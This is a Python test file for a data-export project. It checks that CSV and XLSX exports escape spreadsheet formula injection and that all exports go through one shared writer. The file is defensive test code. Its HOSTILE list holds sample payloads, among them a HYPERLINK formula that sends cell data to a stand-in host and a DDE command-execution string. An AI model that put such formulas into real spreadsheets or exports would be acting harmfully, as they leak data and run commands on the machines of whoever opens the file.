"""Spreadsheet formula injection (issue 12 §1): every CSV/XLSX export escapes text that
a spreadsheet would run as a formula, through the one shared writer; numbers stay
numbers. And no module under src/ writes CSV or XLSX any other way."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cunzhan.core import tabular

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
SRC = Path(tabular.__file__).resolve().parents[1]


def _xml(text: str) -> str:
    """What an XML reader gives back: a carriage return is read as a line feed."""
    return text.replace("\r", "\n")


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_escape_cell_prefixes_formula_text(value):
    assert tabular.escape_cell(value) == "'" + value


def test_safe_values_and_numbers_are_left_alone():
    for value in ("张三", "13800000000", "a=b", "", "1-2"):
        assert tabular.escape_cell(value) == value
    assert tabular.escape_cell(-500) == -500
    assert tabular.escape_cell(-1.5) == -1.5
    assert tabular.escape_cell(None) is None


def test_csv_writer_escapes_text_and_keeps_numbers():
    text = tabular.csv_text(["name", "amount"], [[h, -500] for h in HOSTILE])
    rows = _csv_cells(text)
    assert rows[0] == ["name", "amount"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-500" for r in rows[1:])  # a number, not "'-500"


def test_xlsx_writer_stores_hostile_text_as_text_and_numbers_as_numbers():
    buf = io.BytesIO()
    tabular.xlsx_write(buf, sheet="s", header=["name", "amount"], rows=[[h, -500] for h in HOSTILE])
    buf.seek(0)
    ws = load_workbook(buf).worksheets[0]
    values = list(ws.iter_rows(min_row=2, values_only=True))
    assert [v[0] for v in values] == [_xml("'" + h) for h in HOSTILE]
    assert all(v[1] == -500 for v in values)
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[1].data_type == "n"


# --- every export, with a hostile name --------------------------------------------------------


def test_impact_exports_escape_csv_and_xlsx():
    import pyarrow as pa

    from cunzhan.impact import exports

    def table() -> exports.ExportTable:
        return exports.ExportTable(
            "t",
            [("region_name", pa.string()), ("value", pa.int64())],
            [(h, -500) for h in HOSTILE],
        )

    text = b"".join(exports.csv_chunks(table())).decode("utf-8")
    rows = _csv_cells(text)
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-500" for r in rows[1:])
    buf = io.BytesIO()
    exports.write_xlsx(table(), buf)
    buf.seek(0)
    values = list(load_workbook(buf).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert values == [(_xml("'" + h), -500) for h in HOSTILE]


def test_marketplace_feed_escapes():
    from cunzhan.commerce import marketplace

    row = {f: "" for f in marketplace.FEED_FIELDS}
    row.update(product_name=HOSTILE[0], price_fen=-500, trace_codes=["=A1"])
    rows = _csv_cells(marketplace.feed_csv([row]))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["product_name"] == "'" + HOSTILE[0]
    assert got["price_fen"] == "-500"
    assert got["trace_codes"] == "'=A1"


def test_registry_import_report_and_template_escape():
    from cunzhan.registry import importers
    from cunzhan.registry.models import ImportBatch

    batch = ImportBatch(
        file_name="x.csv",
        rows_failed=1,
        errors=[{"row": 2, "column": HOSTILE[3], "problem": HOSTILE[0]}],
    )
    rows = _csv_cells(importers.report_csv(batch))
    assert rows[1] == ["2", "'" + HOSTILE[3], "'" + HOSTILE[0]]
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    assert _csv_cells(importers.template_csv(None))[0][0] == "村代码"


# --- the one writer -------------------------------------------------------------------------------

WRITER = re.compile(
    r"\bcsv\.(writer|DictWriter)\s*\(|\bWorkbook\s*\(|from openpyxl import .*Workbook"
)


def test_no_module_writes_csv_or_xlsx_outside_the_shared_writer():
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "tabular.py" and path.parent.name == "core":
            continue
        if "migrations" in path.parts:
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITER.search(line):
                offenders.append(f"{path.relative_to(SRC)}:{n}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX through cunzhan.core.tabular:\n" + "\n".join(offenders)


def test_the_grep_finds_what_it_is_meant_to_find():
    for line in (
        "w = csv.writer(out)",
        "w = csv.DictWriter(out, fieldnames=f)",
        "wb = Workbook(write_only=True)",
        "from openpyxl import Workbook",
    ):
        assert WRITER.search(line), line
    assert not WRITER.search("reader = csv.reader(io.StringIO(text))")
